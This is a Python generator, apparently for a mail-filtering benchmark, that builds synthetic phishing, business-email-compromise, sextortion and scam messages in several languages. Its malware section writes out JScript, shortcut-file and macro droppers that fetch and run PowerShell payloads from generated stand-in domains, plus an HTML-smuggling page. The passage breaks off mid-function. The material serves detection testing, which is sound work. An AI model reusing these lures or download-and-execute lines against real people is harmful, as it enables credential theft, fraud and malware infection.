# ruff: noqa: RUF001, E501 - text in other scripts keeps its own letters and punctuation; sentences stay whole
"""Set C's bad mail, sent from compromised accounts of its server (a stolen mailbox password, or a script dropped
into a site): phishing of many themes and brands, BEC, invoice fraud, scams, malware. Each family is a builder
(rng, account) -> (Note, Hop, recipients)."""

from __future__ import annotations

import base64
import io
import random
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable

from bench.modern_mail_c.shapes import button, esc, page, paras_html, token
from bench.modern_mail_c.world import ACCOUNTS, COMPROMISED, Acct, Hop, acct, intruder, person, php
from bench.modern_mail_c.writer import Att, Note, pdf_file

Built = tuple[Note, Hop, list[str]]
Builder = Callable[[random.Random, Acct], Built]

TLDS = ("top", "xyz", "online", "site", "click", "shop", "info", "live", "support", "icu", "cfd", "sbs")
WORDS = ("secure", "verify", "account", "portal", "login", "update", "docs", "share", "auth", "cloud", "mail",
         "office", "review", "access", "signin", "service", "help", "notice")


def compromised(rng: random.Random) -> Acct:
    return acct(rng.choice(COMPROMISED))


def victims(rng: random.Random, n: int = 0, lang: str = "en") -> list[str]:
    k = n or rng.choice((1, 1, 1, 2, 5, 12, 30))
    return [person(rng, lang if rng.random() < 0.7 else "en").email for _ in range(k)]


def bad_host(rng: random.Random) -> str:
    return f"{rng.choice(WORDS)}-{rng.choice(WORDS)}{rng.randint(1, 99) if rng.random() < 0.4 else ''}." \
           f"{rng.choice(TLDS)}"


def phish_url(rng: random.Random, brand: str = "") -> str:
    """Where the credential page lives: an attacker domain, a hacked site, or a free hosting service."""
    b = brand.lower().replace(" ", "")
    other = rng.choice([a.domain for a in ACCOUNTS])
    style = rng.randrange(9)
    return [
        f"https://{bad_host(rng)}/{b or 'auth'}/?e={token(rng, 10)}",
        f"https://{b or 'login'}-{rng.choice(WORDS)}.{rng.choice(TLDS)}/signin",
        f"https://{other}/wp-content/plugins/{token(rng, 6).lower()}/{b or 'o365'}/index.html",
        f"https://storage.googleapis.com/{token(rng, 12).lower()}/{b or 'doc'}.html#{token(rng, 8)}",
        f"https://pub-{token(rng, 32).lower()}.r2.dev/{b or 'index'}.html",
        f"https://{token(rng, 8).lower()}-{b or 'docs'}.pages.dev/",
        f"https://ipfs.io/ipfs/bafybei{token(rng, 50).lower()}?filename=index.html",
        f"https://www.google.com/url?q=https://{bad_host(rng)}/{token(rng, 6)}&sa=D&usg={token(rng, 20)}",
        f"https://{token(rng, 10).lower()}.web.app/?u={token(rng, 12)}",
    ][style]


def spam_hop(rng: random.Random, a: Acct, *, from_addr: str = "") -> tuple[Hop, str]:
    """A stolen mailbox password (SMTP AUTH from an intruder's address) or a PHP mailer dropped into the site."""
    if rng.random() < 0.6:
        box = a.mailbox(rng.randrange(len(a.people)))
        return intruder(rng, box), from_addr or box
    path = rng.choice(("/wp-content/uploads/2024/07/lx.php", "/wp-includes/css/dist/mail.php",
                       "/wp-admin/includes/alfa.php", "/images/.cache/send.php", "/tmp/leaf.php",
                       "/wp-content/themes/twentytwenty/inc/sm.php"))
    hop = php(rng, a, path)
    return hop, from_addr or rng.choice((f"{rng.choice(('info', 'support', 'admin', 'service'))}@{a.domain}",
                                         f"noreply@{bad_host(rng)}", f"{a.user}@{a.domain}"))


def note(rng: random.Random, a: Acct, subj: str, from_name: str, *, text: str | None = None, html: str | None = None,
         lang: str = "en", atts: list[Att] | None = None, reply_to: tuple[str, str] | None = None,
         rcpts: list[str] | None = None, from_addr: str = "", headers: list[tuple[str, str]] | None = None) -> Built:
    hop, frm = spam_hop(rng, a, from_addr=from_addr)
    to = rcpts or victims(rng, lang=lang)
    undisclosed = len(to) > 3 and rng.random() < 0.6
    n = Note(subj, from_name, frm, [("", to[0])], text=text, html=html, lang=lang, atts=atts or [], reply_to=reply_to,
             to_header="undisclosed-recipients:;" if undisclosed else "", headers=headers or [],
             agent=rng.choice(("none", "phpmailer", "outlook", "none")), currency=a.currency)
    return n, hop, to


# ------------------------------------------------------------------------------------------------ phishing


def p_quota(rng: random.Random, a: Acct) -> Built:
    v = victims(rng)
    dom = v[0].split("@")[1]
    used = rng.choice(("98%", "99.2%", "100%", "49.8 GB of 50 GB"))
    url = phish_url(rng, "mail")
    paras = [f"Dear {v[0].split('@')[0]},", f"Your mailbox storage on {dom} is almost full ({used}).",
             rng.choice(("Incoming messages are being held and will be deleted after 24 hours.",
                         "You will stop receiving new emails until you increase your storage.")),
             "Sign in below to upgrade your storage for free and release pending messages."]
    html = page(rng, "", paras_html(paras) + button(url + f"&email={v[0]}", "Increase storage", rng),
                brand=f"{dom} Mail Admin", footer=f"© 2026 {dom} IT Service Desk")
    return note(rng, a, rng.choice((f"Storage quota warning for {v[0]}", "Action required: mailbox full",
                                    f"[{dom}] 7 incoming messages on hold")), f"{dom} Administrator", html=html,
                rcpts=v)


def p_shared_doc(rng: random.Random, a: Acct) -> Built:
    who = person(rng, "en").name
    brand = rng.choice(("SharePoint", "OneDrive", "DocuSign", "Dropbox", "Adobe Acrobat Sign", "Google Drive"))
    doc = rng.choice(("Q4 Payment Schedule.pdf", "Revised Contract.docx", "Remittance Advice.pdf",
                      "Staff Bonus 2026.xlsx", "Proposal - Signed.pdf"))
    url = phish_url(rng, brand)
    inner = (f"<p><b>{esc(who)}</b> shared a file with you</p><p>📄 {esc(doc)}</p>"
             + button(url, "Open" if brand != "DocuSign" else "REVIEW DOCUMENT", rng)
             + f"<p style='font-size:11px'>This link will only work for direct recipients of this message. "
               f"{brand} is a trademark of its owner.</p>")
    return note(rng, a, rng.choice((f"{who} shared \"{doc}\" with you", f"Please DocuSign: {doc}",
                                    f"{brand}: document awaiting your review")), f"{who} via {brand}",
                html=page(rng, "", inner, brand=brand))


def p_voicemail(rng: random.Random, a: Acct) -> Built:
    url = phish_url(rng, "voice")
    secs = rng.randint(12, 95)
    num = f"+1 ({rng.randint(200, 989)}) ***-**{rng.randint(10, 99)}"
    stub = (f"<html><body onload=\"window.location.href=atob('{base64.b64encode(url.encode()).decode()}')\">"
            f"<p>Loading voice message...</p></body></html>").encode()
    text = f"You have a new voice message ({secs} sec) from {num}.\n\nPlay the attached audio file to listen.\n"
    return note(rng, a, rng.choice((f"New Voicemail from {num}", f"🔊 Voice Message ({secs}s) Received",
                                    "Missed call - voicemail attached")), "Voice Mail System", text=text,
                atts=[Att(rng.choice(("VM_Playback.htm", "Audio_Message.html", f"vm-{rng.randint(1000, 9999)}.shtml")),
                          "text/html", stub)])


def p_mfa(rng: random.Random, a: Acct) -> Built:
    brand = rng.choice(("Microsoft 365", "Okta", "Duo Security", "Google Workspace"))
    url = phish_url(rng, brand.split()[0])
    paras = ["Your multi-factor authentication settings must be re-verified by the end of today.",
             "As part of our security upgrade, accounts that are not re-registered will be locked out of email, Teams "
             "and OneDrive.", "Re-register your authenticator now:"]
    return note(rng, a, rng.choice(("MFA re-enrollment required", "Action Required: Verify your 2FA device",
                                    f"{brand}: authentication method expiring")), f"{brand} Security",
                html=page(rng, "", paras_html(paras) + button(url, "Re-register", rng), brand=brand))


def p_payroll(rng: random.Random, a: Acct) -> Built:
    url = phish_url(rng, "hr")
    paras = ["Hello,", rng.choice(("The salary review for this quarter has been approved. Please review your "
                                   "adjusted compensation letter before Friday.",
                                   "Payroll has moved to a new portal. Confirm your direct deposit details before "
                                   "the next pay run to avoid a delay.")), "Sign in with your work email to view it.",
             "Human Resources"]
    return note(rng, a, rng.choice(("Salary Adjustment Letter", "Payroll: update your direct deposit",
                                    "Confidential - 2026 compensation review")), "HR Department",
                html=page(rng, "", paras_html(paras) + button(url, "View letter", rng), brand="Human Resources"))


TAX = {"en": ("HM Revenue & Customs", "You are eligible for a tax refund of £{v}. Submit your claim within 48 hours "
              "to receive it on your card: {u}", "Tax refund notification"),
       "sv": ("Skatteverket", "Du har rätt till en skatteåterbäring på {v} kr. Bekräfta dina kortuppgifter här: {u}",
              "Skatteåterbäring – åtgärd krävs"),
       "de": ("Bundeszentralamt für Steuern", "Ihnen steht eine Steuerrückerstattung von {v} € zu. Bitte bestätigen "
              "Sie Ihre Daten: {u}", "Ihre Steuerrückerstattung"),
       "es": ("Agencia Tributaria", "Tiene un reembolso pendiente de {v} €. Complete el formulario para recibirlo: {u}",
              "Notificación de reembolso"),
       "ja": ("国税庁", "還付金{v}円の受け取り手続きが完了していません。こちらから手続きしてください：{u}", "【国税庁】還付金のお知らせ")}


def p_tax(rng: random.Random, a: Acct) -> Built:
    lang = rng.choice(tuple(TAX))
    who, body, subj = TAX[lang]
    v = rng.randint(120, 980) * (150 if lang == "ja" else 1)
    url = phish_url(rng, "refund")
    text = body.format(v=v, u=url)
    return note(rng, a, subj, who, text=text, html=page(rng, subj, f"<p>{esc(text)}</p>", lang=lang, brand=who)
                if rng.random() < 0.6 else None, lang=lang, rcpts=victims(rng, lang=lang))


PARCEL = {"en": ("Royal Mail", "Your parcel is waiting for delivery. A fee of £1.99 is due before we can deliver "
                 "it. Pay here: {u}", "Your parcel could not be delivered"),
          "de": ("DHL Paket", "Ihr Paket konnte nicht zugestellt werden. Bitte zahlen Sie die Zollgebühr von 2,99 € "
                 "unter: {u}", "Zustellung fehlgeschlagen"),
          "sv": ("PostNord", "Ditt paket väntar på tullavgift (29 kr). Betala för att få det levererat: {u}",
                 "Ditt paket är pausat"),
          "cs": ("Česká pošta", "Vaše zásilka čeká na doplatek 49 Kč. Bez úhrady bude vrácena odesílateli: {u}",
                 "Zásilka čeká na doplatek"),
          "ja": ("日本郵便", "お荷物をお届けにあがりましたが宛先不明のため持ち帰りました。再配達の手続きはこちら：{u}",
                 "【日本郵便】ご不在連絡票"),
          "ru": ("Почта России", "Ваша посылка задержана на таможне. Оплатите сбор 199 ₽: {u}", "Посылка ожидает оплаты"),
          "he": ("דואר ישראל", "החבילה שלך ממתינה לתשלום מכס בסך 14.90 ₪. לתשלום: {u}", "החבילה שלך מעוכבת")}


def p_parcel(rng: random.Random, a: Acct) -> Built:
    lang = rng.choice(tuple(PARCEL))
    who, body, subj = PARCEL[lang]
    text = body.format(u=phish_url(rng, "track"))
    return note(rng, a, subj + (f" #{rng.randint(10**8, 10**9)}" if rng.random() < 0.5 else ""), who, text=text,
                html=page(rng, "", f"<p>{esc(text)}</p>", lang=lang, brand=who) if rng.random() < 0.5 else None,
                lang=lang, rcpts=victims(rng, lang=lang))


BANKS = {"en": (("Barclays", "Chase", "Wells Fargo", "NatWest", "Commonwealth Bank"),
                "We have detected an unusual sign-in to your online banking and temporarily limited your account. "
                "To restore access, verify your identity:", "Your account has been limited"),
         "es": (("BBVA", "Santander", "CaixaBank"), "Hemos detectado un acceso no autorizado. Verifique su identidad "
                "para evitar el bloqueo de su cuenta:", "Aviso de seguridad: cuenta bloqueada"),
         "de": (("Sparkasse", "Volksbank", "Commerzbank"), "aufgrund neuer gesetzlicher Vorgaben müssen Sie Ihr "
                "pushTAN-Verfahren bis zum Monatsende aktualisieren, sonst wird Ihr Online-Banking gesperrt:",
                "Wichtige Mitteilung zu Ihrem Online-Banking"),
         "ru": (("Сбербанк", "Тинькофф"), "Зафиксирована подозрительная операция. Подтвердите данные карты, чтобы "
                "избежать блокировки:", "Ваша карта временно заблокирована"),
         "ja": (("三井住友銀行", "三菱UFJ銀行", "楽天カード"), "お客様の口座で不正な取引の可能性が検知されました。至急、本人確認をお願いいたします。",
                "【重要】口座利用制限のお知らせ")}


def p_bank(rng: random.Random, a: Acct) -> Built:
    lang = rng.choice(tuple(BANKS))
    banks, body, subj = BANKS[lang]
    bank = rng.choice(banks)
    url = phish_url(rng, bank)
    html = page(rng, subj, f"<p>{esc(body)}</p>" + button(url, "→", rng), lang=lang, brand=bank,
                footer=f"© {bank} 2026")
    return note(rng, a, subj, bank, html=html, text=f"{body}\n{url}" if rng.random() < 0.5 else None, lang=lang,
                rcpts=victims(rng, lang=lang))


def p_brand(rng: random.Random, a: Acct) -> Built:
    brand, why = rng.choice((("Netflix", "Your payment was declined and your membership is on hold."),
                             ("Apple", "Your Apple ID has been locked for security reasons."),
                             ("PayPal", "We noticed unusual activity and limited what you can do with your account."),
                             ("Amazon", "Your Prime membership could not be renewed."),
                             ("Booking.com", "Your guest reservation needs card verification within 12 hours."),
                             ("Instagram", "Your account will be disabled for a copyright violation.")))
    url = phish_url(rng, brand)
    inner = paras_html([why, "To keep using your account, confirm your details within 24 hours."]) + \
        button(url, "Update now", rng)
    return note(rng, a, rng.choice((f"{brand}: Action needed", f"Your {brand} account is suspended",
                                    f"Re: {brand} case #{rng.randint(10**6, 10**7)}")), brand,
                html=page(rng, "", inner, brand=brand, logo=f"https://{bad_host(rng)}/img/{brand.lower()}.png"))


def qr_png(rng: random.Random, size: int = 33) -> bytes:
    rows = b"".join(b"\x00" + bytes(rng.choice((0, 255)) for _ in range(size)) for _ in range(size))

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def p_qr(rng: random.Random, a: Acct) -> Built:
    cid = f"qr{token(rng, 8)}"
    brand = rng.choice(("Microsoft", "Microsoft Authenticator", "DocuSign", "IT Helpdesk", "Payroll"))
    paras = [rng.choice(("Your authenticator must be re-linked to keep access to your mailbox.",
                         "A secure document is waiting for your signature.",
                         "Your password expires today. Keep your current password by scanning below.")),
             "Scan the QR code with your phone camera to continue."]
    html = page(rng, "", paras_html(paras) + f'<p><img src="cid:{cid}" width="200" height="200"></p>'
                + "<p>This code expires in 2 hours.</p>", brand=brand)
    return note(rng, a, rng.choice(("Scan to re-activate 2FA", "Document shared - scan to view",
                                    "Password expiry notice")), brand, html=html,
                atts=[Att("qrcode.png", "image/png", qr_png(rng), cid=cid)])


# ------------------------------------------------------------------------------------------------ fraud and scams


def _ascii(name: str) -> str:
    """The mailbox name a fraudster registers for `name` (a Latin spelling, or "director" for other scripts)."""
    first = unicodedata.normalize("NFKD", name.split()[0]).encode("ascii", "ignore").decode().lower().strip(".")
    return first or "director"


def f_ceo_giftcard(rng: random.Random, a: Acct) -> Built:
    boss = a.people[0][0]
    staff = victims(rng, 1)
    text = rng.choice((f"Are you available? I need you to handle a task for me discreetly. I'm in a meeting and "
                       f"can't talk.\n\n{boss}\nSent from my iPhone",
                       f"I need you to get some Apple gift cards for a client appreciation today, 5 x $200. Scratch "
                       f"the back and send me pictures of the codes. I'll reimburse you later.\n\n{boss}",
                       f"Quick one - what's your mobile number? I have a small favour to ask, it's urgent.\n\n"
                       f"{boss.split()[0]}"))
    gm = f"{_ascii(boss)}.{rng.choice(('office', 'ceo', 'desk'))}{rng.randint(1, 99)}@gmail.com"
    return note(rng, a, rng.choice(("Quick favour", "Available?", "Urgent request", "Are you at your desk?")), boss,
                text=text, reply_to=(boss, gm), rcpts=staff)


def f_wire(rng: random.Random, a: Acct) -> Built:
    boss = a.people[0][0]
    amount = f"{rng.choice(('$', '€', '£'))}{rng.randint(18, 96)},{rng.randint(100, 999)}"
    text = (f"Hi,\n\nI need you to process a wire transfer of {amount} today to a new supplier for a confidential "
            "acquisition. Keep this between us until the announcement. I'll send the beneficiary details once you "
            f"confirm you can do it before the cut-off.\n\nThanks,\n{boss}")
    return note(rng, a, rng.choice(("Confidential payment", "Wire today", "Time-sensitive transfer")), boss,
                text=text, rcpts=victims(rng, 1),
                reply_to=(boss, f"{_ascii(boss)}@{a.domain.replace('.test', '-group.com')}"))


def f_bank_change(rng: random.Random, a: Acct) -> Built:
    iban = "GB" + str(rng.randint(10, 99)) + " MONZ " + " ".join(str(rng.randint(1000, 9999)) for _ in range(3))
    text = (f"Dear Customer,\n\nPlease note that our company bank details have changed due to an ongoing audit. "
            f"All outstanding and future invoices must now be paid to the following account:\n\nBank: Monzo\n"
            f"IBAN: {iban}\nSWIFT: MONZGB2L\n\nPlease confirm once you have updated your records. Kindly settle "
            f"invoice {rng.randint(1000, 9999)} today as it is overdue.\n\nAccounts Receivable\n{a.name}")
    atts = [Att("Updated_Bank_Details.pdf", "application/pdf", pdf_file(["Bank details", iban], rng))] \
        if rng.random() < 0.5 else []
    return note(rng, a, rng.choice(("Change of bank details", "RE: Overdue invoice - new account",
                                    "Updated remittance information")), f"{a.name} Accounts", text=text, atts=atts,
                rcpts=victims(rng, 1), reply_to=("Accounts", f"accounts.{a.user}@outlook.com"))


def f_advance_fee(rng: random.Random, a: Acct) -> Built:
    name = rng.choice(("Barrister James Okoro", "Mrs. Aisha Gaddafi", "Dr. Martin Kessler", "Mr. Chen Wei"))
    text = (f"Dear Friend,\n\nI am {name}. I am contacting you concerning a dormant account of US$"
            f"{rng.randint(4, 19)}.{rng.randint(1, 9)} million left by a late client who shares your surname. Since "
            "no next of kin has come forward, I seek your consent to present you as beneficiary. This transaction is "
            "100% risk free and you will receive 40% of the fund.\n\nReply with your full name, phone and address.\n\n"
            f"Yours faithfully,\n{name}")
    return note(rng, a, rng.choice(("Confidential business proposal", "Dormant account", "Your urgent response",
                                    "Compensation fund")), name, text=text,
                reply_to=(name, f"{token(rng, 6).lower()}@{rng.choice(('proton.me', 'gmx.com', 'yandex.com'))}"))


def f_inheritance(rng: random.Random, a: Acct) -> Built:
    lang = rng.choice(("en", "es", "de"))
    text = {"en": "I am a widow suffering from cancer and I have little time left. I wish to donate my late "
                  "husband's fortune of €3,500,000 to a trustworthy person for charity. Kindly reply so my lawyer "
                  "can contact you.",
            "es": "Soy una viuda enferma y deseo donar mi herencia de 2.800.000 € a una persona honesta para obras "
                  "de caridad. Responda para que mi abogado le contacte.",
            "de": "Ich bin eine kranke Witwe und möchte mein Erbe von 2.800.000 € einer vertrauenswürdigen Person "
                  "für wohltätige Zwecke spenden. Bitte antworten Sie mir."}[lang]
    return note(rng, a, {"en": "Donation for you", "es": "Donación", "de": "Spende für Sie"}[lang],
                rng.choice(("Mrs. Helena Brandt", "Maria Gonzalez", "Mrs. Olga Ivanova")), text=text, lang=lang,
                reply_to=("Lawyer", f"lawyer.{token(rng, 5).lower()}@gmail.com"), rcpts=victims(rng, lang=lang))


def f_crypto(rng: random.Random, a: Acct) -> Built:
    site = f"https://{rng.choice(('btc', 'quant', 'ai', 'coin'))}{rng.choice(('profit', 'trade', 'yield'))}." \
           f"{rng.choice(TLDS)}/r/{token(rng, 6)}"
    lang = rng.choice(("en", "en", "de", "ru", "ja"))
    body = {"en": f"My uncle turned $250 into $4,880 in one week with this AI trading bot. Elon is behind it and banks "
                  f"want it shut down. Register before spots close: {site}",
            "de": f"Mit diesem KI-Handelsroboter verdienen Anleger bis zu 1.500 € am Tag. Jetzt anmelden: {site}",
            "ru": f"Пассивный доход от 50 000 ₽ в неделю на криптовалюте. Регистрация: {site}",
            "ja": f"たった1週間で資産が20倍に！AI仮想通貨投資の無料登録はこちら：{site}"}[lang]
    return note(rng, a, {"en": "Your BTC balance is ready", "de": "Passives Einkommen mit Bitcoin",
                         "ru": "Ваш доход от криптовалюты", "ja": "【限定】仮想通貨で資産倍増"}[lang],
                rng.choice(("Crypto Insider", "Wealth Daily", "Ava from Quantum")), text=body,
                html=page(rng, "", f"<p>{esc(body)}</p>", lang=lang) if rng.random() < 0.5 else None, lang=lang,
                rcpts=victims(rng, lang=lang))


def f_sextortion(rng: random.Random, a: Acct) -> Built:
    v = victims(rng, 1)
    wallet = "bc1q" + "".join(rng.choice("023456789acdefghjklmnpqrstuvwxyz") for _ in range(38))
    text = (f"Hello!\n\nI have bad news for you. A few months ago I gained access to your devices, including "
            f"{v[0]}. I recorded you through your camera while you were visiting adult websites. If you want me to "
            f"delete the video, transfer ${rng.randint(9, 19) * 100} in Bitcoin to: {wallet}\n\nYou have 48 hours. "
            "Do not reply, this address is not monitored. If you contact the police the video goes to all your "
            "contacts.")
    return note(rng, a, rng.choice((f"{v[0]}", "I know your password", "Payment overdue - final warning")),
                v[0].split("@")[0], text=text, rcpts=v, from_addr=v[0] if rng.random() < 0.4 else "")


def f_tech_support(rng: random.Random, a: Acct) -> Built:
    phone = f"+1 ({rng.randint(800, 888)}) {rng.randint(200, 999)}-{rng.randint(1000, 9999)}"
    brand = rng.choice(("Norton 360", "McAfee Total Protection", "Geek Squad", "Windows Defender"))
    order = f"{rng.choice(('INV', 'ORD', 'GS'))}-{rng.randint(100000, 999999)}"
    inner = paras_html([f"Thank you for renewing {brand}.", f"Order: {order}\nAmount: ${rng.randint(299, 549)}.99\n"
                        "Payment: auto-debited", f"If you did not authorise this charge, call our billing team "
                        f"within 24 hours to cancel and receive a refund: {phone}"])
    return note(rng, a, rng.choice((f"Your {brand} subscription renewed", f"Invoice {order}",
                                    "Payment receipt - auto renewal")), f"{brand} Billing",
                html=page(rng, "", inner, brand=brand), text=None if rng.random() < 0.6 else inner)


def f_callback(rng: random.Random, a: Acct) -> Built:
    phone = f"+1-{rng.randint(800, 888)}-{rng.randint(200, 999)}-{rng.randint(1000, 9999)}"
    brand = rng.choice(("PayPal", "Coinbase", "Amazon", "Best Buy"))
    text = (f"Dear customer,\n\nA payment of ${rng.randint(400, 1200)}.{rng.randint(10, 99)} to "
            f"{rng.choice(('BTC Wallet', 'Apple Store', 'eBay seller'))} has been approved from your {brand} account.\n"
            f"\nIf you do not recognise this transaction, contact our fraud team immediately at {phone}. Do not "
            "reply to this email.\n\nTransaction ID: " + token(rng, 17).upper())
    atts = [Att(f"Invoice_{rng.randint(1000, 9999)}.pdf", "application/pdf",
                pdf_file([brand, "Payment approved", f"Call {phone}"], rng))] if rng.random() < 0.5 else []
    return note(rng, a, rng.choice(("Your payment has been approved", "Transaction alert", f"{brand} invoice")),
                f"{brand} Service", text=text, atts=atts)


def f_job(rng: random.Random, a: Acct) -> Built:
    lang = rng.choice(("en", "en", "es", "he", "ru"))
    body = {"en": "We reviewed your profile and offer you a remote part-time position: 1-2 hours a day, $300-$800 per "
                  "day. No experience required. Contact our HR manager on WhatsApp +44 7" + str(rng.randint(100000000,
                                                                                                       999999999)),
            "es": "Le ofrecemos trabajo desde casa, 1-2 horas al día, 200-500 € diarios. Escriba por WhatsApp al +34 6"
                  + str(rng.randint(10000000, 99999999)),
            "he": "משרה מהבית, שעה עד שעתיים ביום, 500 עד 1500 ₪ ליום. פנו בוואטסאפ: +972 5" +
                  str(rng.randint(10000000, 99999999)),
            "ru": "Удалённая работа, 1–2 часа в день, доход от 5000 ₽ в день. Пишите в Telegram: @hr_" + token(rng, 6)}
    return note(rng, a, {"en": "Job offer - remote", "es": "Oferta de empleo", "he": "הצעת עבודה",
                         "ru": "Вакансия: удалённая работа"}[lang], rng.choice(("HR Team", "Recruitment", "Talent")),
                text=body[lang], lang=lang, rcpts=victims(rng, lang=lang))


def f_loan(rng: random.Random, a: Acct) -> Built:
    rate = rng.choice(("2%", "1.5%", "3%"))
    text = (f"Do you need a loan to pay off bills or start a business? We offer loans from $5,000 to $5,000,000 at "
            f"{rate} interest, no credit check, approval in 24 hours. Reply with: full name, amount needed, duration, "
            "phone number.")
    return note(rng, a, rng.choice(("Loan offer", "Do you need financial help?", "Guaranteed loan approval")),
                rng.choice(("Global Finance Ltd", "Sterling Loans", "Quick Credit")), text=text,
                reply_to=("Loans", f"loan{rng.randint(1, 99)}@{rng.choice(('outlook.com', 'gmail.com'))}"))


def f_seo(rng: random.Random, a: Acct) -> Built:
    target = rng.choice([x.domain for x in ACCOUNTS])
    text = rng.choice((f"Hi,\n\nI was checking {target} and noticed it isn't ranking on page 1 for your main "
                       "keywords. We can get you to the top of Google within 30 days. Can I send you a free audit?",
                       f"Hello,\n\nWe offer high-authority guest posts on DA 70+ sites, $45 per link, do-follow, "
                       f"permanent. Interested in boosting {target}? Reply for our list.",
                       f"Hi there,\n\nI noticed a few broken links on {target}. Our team builds backlinks and fixes "
                       "technical SEO issues at very low cost. Shall I send a price list?")) + \
        f"\n\nBest regards,\n{person(rng, 'en').name}\nSEO Specialist"
    return note(rng, a, rng.choice((f"Question about {target}", "Guest post offer", "Your website ranking",
                                    "Backlinks proposal")), person(rng, "en").name, text=text,
                rcpts=[f"info@{target}", *victims(rng, rng.randint(0, 8) or 1)])


def f_pharma(rng: random.Random, a: Acct) -> Built:
    shop = f"https://{rng.choice(('rx', 'med', 'pharma', 'pills'))}{rng.choice(('store', 'direct', 'online'))}" \
           f"{rng.randint(1, 99)}.{rng.choice(TLDS)}/"
    items = rng.sample(("Viagra 100mg - $0.89", "Cialis 20mg - $1.10", "Tramadol - no prescription",
                        "Ozempic pens - 70% OFF", "Xanax 2mg", "Modafinil"), 3)
    inner = "<h1>" + esc(rng.choice(("MEGA SALE", "Men's Health", "Lowest prices online"))) + "</h1><ul>" + \
        "".join(f"<li>{esc(i)}</li>" for i in items) + f"</ul><a href='{shop}'>ORDER NOW</a>"
    return note(rng, a, rng.choice(("Your order is discounted", "Increase performance", "Weight loss miracle")),
                rng.choice(("Online Pharmacy", "Canadian Meds", "RX Deals")), html=page(rng, "", inner))


def f_prize(rng: random.Random, a: Acct) -> Built:
    brand = rng.choice(("Costco", "Lidl", "IKEA", "Walmart"))
    url = phish_url(rng, "gift")
    inner = paras_html([f"Congratulations! You have been selected to receive a {brand} gift card worth $500.",
                        "Complete our 30-second survey and pay only the shipping fee of $2.95."]) + \
        button(url, "Claim reward", rng)
    return note(rng, a, rng.choice(("You've won!", f"{brand} loyalty reward", "Final notice: unclaimed reward")),
                f"{brand} Rewards", html=page(rng, "", inner, brand=brand))


# ------------------------------------------------------------------------------------------------ malware


def _zip(members: list[tuple[str, bytes]], password: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in members:
            info = zipfile.ZipInfo(n, date_time=(2026, 3, 2, 10, 0, 0))
            if password:
                info.flag_bits |= 0x1  # marks the member encrypted, as a password-protected archive does
            z.writestr(info, d)
    return buf.getvalue()


def _js(rng: random.Random) -> bytes:
    v = token(rng, 6)
    return (f"var {v}=new ActiveXObject('WScript.Shell');var u='http://{bad_host(rng)}/{token(rng, 6)}.dat';"
            f"{v}.Run('powershell -w hidden -c \"iwr '+u+' -o $env:TEMP\\\\a.exe; start $env:TEMP\\\\a.exe\"',0);"
            ).encode()


def _lnk(rng: random.Random) -> bytes:
    head = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
    cmd = f"/c powershell -ep bypass -w hidden iex(iwr http://{bad_host(rng)}/p.ps1)".encode("utf-16-le")
    return head + b"\x00" * 56 + b"C:\\Windows\\System32\\cmd.exe\x00" + cmd


def _iso(inner_name: str, payload: bytes) -> bytes:
    pvd = b"\x01CD001\x01\x00" + b" " * 32 + inner_name.upper().encode().ljust(32, b" ")
    return b"\x00" * 0x8000 + pvd.ljust(2048, b"\x00") + payload


def m_attachment(rng: random.Random, a: Acct) -> Built:
    pretext = rng.choice((("Invoice overdue", "Please see the attached invoice and remit payment by Friday."),
                          ("Purchase Order", "Kindly find our new purchase order attached and confirm availability."),
                          ("DHL shipment documents", "Your shipping documents are attached. Open to confirm "
                                                     "delivery address."),
                          ("Payment confirmation", "Attached is the swift copy for today's payment.")))
    kind = rng.randrange(4)
    base = rng.choice(("Invoice_", "PO_", "DOC_", "Payment_", "Scan_")) + str(rng.randint(10000, 99999))
    if kind == 0:
        att = Att(base + ".iso", "application/octet-stream", _iso(base + ".exe", b"MZ\x90\x00" + bytes(300)))
    elif kind == 1:
        att = Att(base + ".img", "application/octet-stream", _iso(base + ".lnk", _lnk(rng)))
    elif kind == 2:
        att = Att(base + ".zip", "application/zip", _zip([(base + ".pdf.lnk", _lnk(rng))]))
    else:
        att = Att(base + ".zip", "application/x-zip-compressed", _zip([(base + ".js", _js(rng))]))
    return note(rng, a, pretext[0] + f" {rng.randint(1000, 9999)}", rng.choice(("Accounts Payable", "Sales Dept",
                                                                                "Logistics")),
                text=f"Hello,\n\n{pretext[1]}\n\nRegards", atts=[att])


def m_html_smuggling(rng: random.Random, a: Acct) -> Built:
    blob = base64.b64encode(_zip([("Statement.js", _js(rng))])).decode()
    page_html = (f"<html><body><script>var b=atob('{blob}');var a=new Uint8Array(b.length);for(var i=0;i<b.length;i++)"
                 "a[i]=b.charCodeAt(i);var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([a]));"
                 "l.download='Statement.zip';document.body.appendChild(l);l.click();</script>"
                 "<p>Your download will begin shortly...</p></body></html>").encode()
    return note(rng, a, rng.choice(("Account statement", "Remittance advice", "Secure message")),
                rng.choice(("Finance", "Secure Mail", "Bank Notifications")),
                text="Please find your secure document attached. Open it in your browser to download.",
                atts=[Att(rng.choice(("Statement.html", "Remittance_Advice.htm", "secure_message.html")), "text/html",
                          page_html)])


def m_macro(rng: random.Random, a: Acct) -> Built:
    vba = b"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nShell \"powershell -enc " + \
        base64.b64encode(f"iwr http://{bad_host(rng)}/x.exe".encode("utf-16-le")) + b"\"\nEnd Sub\n"
    docm = _zip([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"),
                 ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + vba)])
    name = rng.choice(("Order_Details.docm", "Invoice.xlsm", "Contract_Amendment.docm", "Rechnung.docm"))
    ctype = "application/vnd.ms-word.document.macroEnabled.12" if name.endswith("docm") else \
        "application/vnd.ms-excel.sheet.macroEnabled.12"
    return note(rng, a, rng.choice(("Order details", "Contract amendment", "Rechnung", "Updated invoice")),
                rng.choice(("Sales", "Buchhaltung", "Legal")),
